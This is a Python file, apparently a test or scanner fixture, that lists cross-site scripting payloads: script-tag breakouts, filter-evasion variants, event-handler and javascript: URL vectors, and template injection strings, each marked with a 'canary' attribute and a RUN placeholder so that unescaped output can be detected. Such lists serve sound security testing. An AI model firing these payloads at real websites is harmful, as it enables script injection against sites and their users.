"""What makes markup or a script of a text that is not escaped, or not as the place it stands in wants it.

RUN stands for the script. What opens an element that pages have themselves gives it the attribute `canary`, so that it is
known for one of these. Without commas, which no tag has, and in Latin-1, which every font has.
"""

# Left by themselves, at the end of an attribute of either kind, at the end of an element that holds plain text.
SCRIPTS = [
    "<script canary>RUN</script>",
    "\"><script canary>RUN</script>",
    "'><script canary>RUN</script>",
    "</title><script canary>RUN</script>",
    "</textarea><script canary>RUN</script>",
    "</script><script canary>RUN</script>",
    "</text></svg><script canary>RUN</script>",
    "</main></body></html><script canary>RUN</script>",
    "--><script canary>RUN</script>",
    "]]><script canary xmlns=\"http://www.w3.org/1999/xhtml\">RUN</script>",
    "</title></entry><script canary xmlns='http://www.w3.org/1999/xhtml'>RUN</script>",
]
# For what takes out that which it knows.
DISGUISED = [
    "<ScRiPt/canary>RUN</sCrIpT >",
    "<scr<script canary>ipt>RUN</scr</script>ipt>",
    "<<script canary>RUN//<</script>",
    "&lt;script canary&gt;RUN&lt;/script&gt;",
    "&#60;img canary src=x onerror=RUN&#62;",
    "%3Cscript canary%3ERUN%3C%2Fscript%3E",
    "\\u003cscript canary\\u003eRUN\\u003c/script\\u003e",
    "<!--><img canary src=x onerror=RUN>-->",
    "<![CDATA[><img canary src=x onerror=RUN>]]>",
    "<noscript><p title=\"</noscript><img canary src=x onerror=RUN>\">",
    "<math canary><mtext><table><mglyph><style><img src=x onerror=RUN>",
    "<mark><img canary src=x onerror=RUN></mark>",
]
# That run by an event.
HANDLERS = [
    "<img canary src=x onerror=RUN>",
    "\"><img canary src=x onerror=RUN>",
    "<img/canary/src='x'onerror='RUN'>",
    "<img canary src=x onerror=RUN//",
    "<svg canary onload=RUN>",
    "'><svg/canary/onload=RUN>",
    "<svg canary><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg canary><script>RUN</script></svg>",
    "<body canary onpageshow=RUN>",
    "<details canary open ontoggle=RUN><summary>report</summary></details>",
    "<video canary><source onerror=RUN></video>",
    "<input canary autofocus onfocus=RUN>",
    "<style canary>@keyframes x{}</style><b style=animation:x onanimationstart=RUN>",
    "\" autofocus onfocus=RUN x=\"",
    "' autofocus onfocus=RUN x='",
]
# That run when they are followed, loaded or sent.
ADDRESSES = [
    "javascript:RUN//",
    "&#106;avascript:RUN",
    "<a canary href=javascript:RUN>report</a>",
    "<svg canary><a xlink:href='javascript:RUN'><text y=20>report</text></a></svg>",
    "<iframe canary src=javascript:parent.RUN>",
    "<iframe canary srcdoc=\"<script>parent.RUN</script>\">",
    "<object canary data=javascript:RUN></object>",
    "<form canary action=javascript:RUN><button>report</button></form>",
    "<meta canary http-equiv=refresh content='0;url=javascript:RUN'>",
    "<base canary href=javascript:RUN//>",
]
# In a script, or in what is filled in.
STATEMENTS = [
    "\"};RUN;var x={\"",
    "';RUN;//",
    "\\\";RUN;//",
    "{{constructor.constructor('RUN')()}}${RUN}",
]

PAYLOADS = SCRIPTS + DISGUISED + HANDLERS + ADDRESSES + STATEMENTS
